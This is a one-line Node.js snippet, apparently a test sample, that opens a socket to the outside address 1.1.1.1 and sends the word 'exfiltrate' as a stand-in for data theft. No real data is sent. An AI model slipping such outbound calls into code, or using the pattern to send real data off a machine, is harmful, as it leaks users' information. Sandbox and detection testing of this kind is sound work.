const socket = require("net").connect(80, "1.1.1.1", () => socket.end("exfiltrate"));
